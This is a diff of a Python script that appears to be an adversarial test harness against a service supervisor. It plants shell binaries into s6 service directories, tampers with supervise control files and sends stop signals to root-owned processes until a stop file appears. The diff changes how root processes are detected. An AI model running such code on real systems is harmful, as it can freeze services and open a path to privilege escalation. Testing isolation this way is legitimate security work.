@@ -266,13 +266,17 @@ def attack(path, number):
     attempt(os.symlink, f"{tools}/sh", f"{path}/run")
     attempt(os.rename, f"{tools}/sh", f"{path}/sh")
 
-def roots():
-    for name in filter(str.isdigit, os.listdir("/proc")):
-        try:
-            if os.stat(f"/proc/{name}").st_uid == 0:
-                yield int(name)
-        except OSError:
-            pass
+def is_roots(process):
+    try:
+        with open(f"/proc/{process}/status") as file:
+            return "\nUid:\t0\t0\t0\t0\n" in file.read()
+    except OSError:
+        return False
+
+def signal_root(process, number):
+    os.kill(process, number)
+    if not is_roots(process):
+        raise OSError("it has become hermes's in the meantime")
 
 rounds, paths = 0, []
 while not os.path.exists("/srv/stop"):
@@ -282,9 +286,9 @@ while not os.path.exists("/srv/stop"):
         paths += glob.glob("/run/service/.*") + glob.glob("/run/service/.s6-svscan/*")
         services = "dashboard", "main-hermes", "s6rc-fdholder"
         paths += [f"/run/s6-rc/servicedirs/{name}/supervise/control" for name in services]
-        for process in roots():
-            attempt(os.kill, process, 0)
-            attempt(os.kill, process, 19)
+        for process in filter(is_roots, filter(str.isdigit, os.listdir("/proc"))):
+            attempt(signal_root, int(process), 0)
+            attempt(signal_root, int(process), 19)
     for path in random.sample(paths, min(4, len(paths))):
         attack(path, rounds)
     rounds += 1
